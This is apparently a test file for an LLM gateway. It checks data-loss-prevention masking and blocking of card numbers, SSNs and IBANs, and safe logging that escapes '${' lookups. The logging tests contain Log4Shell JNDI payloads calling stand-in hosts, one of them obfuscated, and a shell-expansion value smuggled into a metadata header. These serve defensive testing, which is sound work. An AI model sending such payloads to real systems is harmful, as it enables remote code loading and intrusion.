// DLP on prompts and answers, and safe logs, through the real binary (docs/dlp.md).
import { test, before, after } from 'node:test';
import assert from 'node:assert/strict';
import OpenAI from 'openai';
import { execFileSync } from 'node:child_process';
import { startGateway, startFakeProvider, parapetBin } from './lib/harness.mjs';
import { request, logRecord } from './lib/util.mjs';

let fake;
let gw;
before(async () => {
  fake = await startFakeProvider();
  gw = await startGateway({
    upstreams: { openai: `${fake.url}/v1`, echo: fake.url },
    config: `
[gateways.flagged]
log_bodies = true
dlp = { prompts = "flag", answers = "flag" }
[gateways.redacted]
log_bodies = true
dlp = { prompts = "redact", answers = "redact" }
[gateways.blocked]
dlp = { prompts = "block", answers = "block", kinds = ["card", "ssn"] }
[gateways.answers]
dlp = { answers = "block" }
[gateways.plain]
log_bodies = true
`,
  });
});
after(async () => {
  await gw?.stop();
  await fake?.close();
});

const CARD = '4111 1111 1111 1111';
const json = { 'content-type': 'application/json', authorization: 'Bearer sk-test-0000' };
const chat = (content, extra = {}) => JSON.stringify({ model: 'gpt-4o-mini', messages: [{ role: 'user', content }], ...extra });

const record = (id) => logRecord(gw.adminUrl, id);

test('flag: the prompt goes unchanged, the record says what was found, stored bodies are masked', async () => {
  fake.requests.length = 0;
  const r = await request(`${gw.url}/flagged/openai/chat/completions`, {
    method: 'POST', headers: json, body: chat(`my card is ${CARD} and mail ana@corp.io`),
  });
  assert.equal(r.status, 200);
  assert.ok(fake.requests[0].body.includes(CARD), 'forwarded unchanged');
  const rec = await record(r.headers['x-parapet-log-id']);
  assert.equal(rec.dlp_prompt, 2);
  assert.match(rec.dlp, /^prompt:card=1,email=1 flag/);
  assert.ok(!rec.request_body.includes(CARD), 'the stored body never keeps the card');
  assert.ok(rec.request_body.includes('**** **** **** 1111'));
});

test('redact: the provider sees the prompt masked, same length', async () => {
  fake.requests.length = 0;
  const body = chat(`ssn 123-45-6789, IBAN GB82WEST12345698765432`);
  const r = await request(`${gw.url}/redacted/openai/chat/completions`, { method: 'POST', headers: json, body });
  assert.equal(r.status, 200);
  const sent = fake.requests[0].body;
  assert.equal(sent.length, body.length);
  assert.ok(sent.includes('ssn ***-**-****, IBAN **********************'), sent);
  JSON.parse(sent);
});

test('block: a prompt with a card is refused before it reaches the provider', async () => {
  fake.requests.length = 0;
  const r = await request(`${gw.url}/blocked/openai/chat/completions`, { method: 'POST', headers: json, body: chat(`card ${CARD}`) });
  assert.equal(r.status, 403);
  assert.equal(r.json().error.type, 'dlp_blocked');
  assert.match(r.json().error.message, /card=1/);
  assert.equal(fake.requests.length, 0);
  // Kinds not listed for that gateway pass.
  const ok = await request(`${gw.url}/blocked/openai/chat/completions`, { method: 'POST', headers: json, body: chat('mail ana@corp.io') });
  assert.equal(ok.status, 200);
  const rec = await record(r.headers['x-parapet-log-id']);
  assert.equal(rec.dlp_blocked, true);
  const metrics = (await request(`${gw.adminUrl}/metrics`, { method: 'GET' })).text;
  assert.match(metrics, /parapet_dlp_blocked_total [1-9]/);
  assert.match(metrics, /parapet_dlp_findings_total\{where="prompt"\} [1-9]/);
});

test('answers: a secret the model streams across many events is masked in each of them', async () => {
  const text = `Sure. The card on file is ${CARD}, expiring soon. Anything else?`;
  const client = new OpenAI({ apiKey: 'sk-test', baseURL: `${gw.url}/redacted/openai`, maxRetries: 0 });
  const stream = await client.chat.completions.create({ model: 'gpt-4o-mini', messages: [{ role: 'user', content: 'card?' }], stream: true },
    { headers: { 'x-fake-stream-text': encodeURIComponent(text) } });
  let got = '';
  let events = 0;
  for await (const ch of stream) { got += ch.choices[0]?.delta?.content ?? ''; events++; }
  assert.equal(got, text.replace(CARD, '**** **** **** 1111'));
  assert.ok(events > 15, 'still a stream of many events');
});

test('answers under block: a stream ends with an error event at the finding; a whole answer becomes 403', async () => {
  const client = new OpenAI({ apiKey: 'sk-test', baseURL: `${gw.url}/answers/openai`, maxRetries: 0 });
  const text = `Here you go: a fairly long preamble before the number. SSN 123-45-6789 ok`;
  let got = '';
  await assert.rejects(async () => {
    const stream = await client.chat.completions.create({ model: 'gpt-4o-mini', messages: [{ role: 'user', content: 'x' }], stream: true },
      { headers: { 'x-fake-stream-text': encodeURIComponent(text) } });
    for await (const ch of stream) got += ch.choices[0]?.delta?.content ?? '';
  }, /dlp_blocked|ssn/);
  assert.ok(!got.includes('6789') && !got.includes('123-45'), got);
  // The echo origin answers with the request: a whole answer, held and checked before any byte.
  const r = await request(`${gw.url}/answers/echo/anything`, { method: 'POST', headers: json, body: 'ssn 123-45-6789' });
  assert.equal(r.status, 403);
  assert.equal(r.json().error.type, 'dlp_blocked');
  const clean = await request(`${gw.url}/answers/echo/anything`, { method: 'POST', headers: json, body: 'nothing to see' });
  assert.equal(clean.status, 200);
  assert.equal(clean.json().body, 'nothing to see');
});

test('safe logs: stored records never carry a live ${ lookup, and the hunt form restores it', async () => {
  const attack = '${jndi:ldap://evil.example/a}';
  const r = await request(`${gw.url}/plain/openai/chat/completions`, {
    // The attack in a header would be blocked by the WAF; a shell default in metadata is not.
    method: 'POST', headers: { ...json, 'x-parapet-metadata': JSON.stringify({ ua: '${HOME:-/root}' }) }, body: chat(`explain ${attack}`),
  });
  assert.equal(r.status, 200);
  const rec = await record(r.headers['x-parapet-log-id']);
  const raw = JSON.stringify(rec);
  assert.ok(!raw.includes('${'), 'no live lookup anywhere in the stored record');
  assert.ok(rec.request_body.includes('$%7Bjndi:ldap://evil.example/a}'));
  assert.equal(rec.metadata.ua, '$%7BHOME:-/root}');
  assert.match(rec.waf_action, /log/, 'the prompt was flagged by the WAF, not blocked');
  const tail = await request(`${gw.adminUrl}/logs?limit=5&format=jsonl`, { method: 'GET' });
  assert.ok(!tail.text.includes('${'));
});

test('the retro-hunt still finds an attack whose stored body was safe-logged', async () => {
  const attack = '${${lower:j}ndi:ldap://hunt.example/x}';
  const r = await request(`${gw.url}/plain/openai/chat/completions`, { method: 'POST', headers: json, body: chat(`what is ${attack}`) });
  assert.equal(r.status, 200);
  const rec = await record(r.headers['x-parapet-log-id']);
  assert.ok(!rec.request_body.includes('${'));
  const out = execFileSync(parapetBin(), ['rules', '--admin', gw.adminUrl.replace('http://', ''), '--json', 'hunt', 'log4shell', '--since', '1h'],
    { encoding: 'utf8' });
  const hunt = JSON.parse(out);
  assert.ok(hunt.matched >= 1, out);
  assert.equal(hunt.last_id, r.headers['x-parapet-log-id']);
});
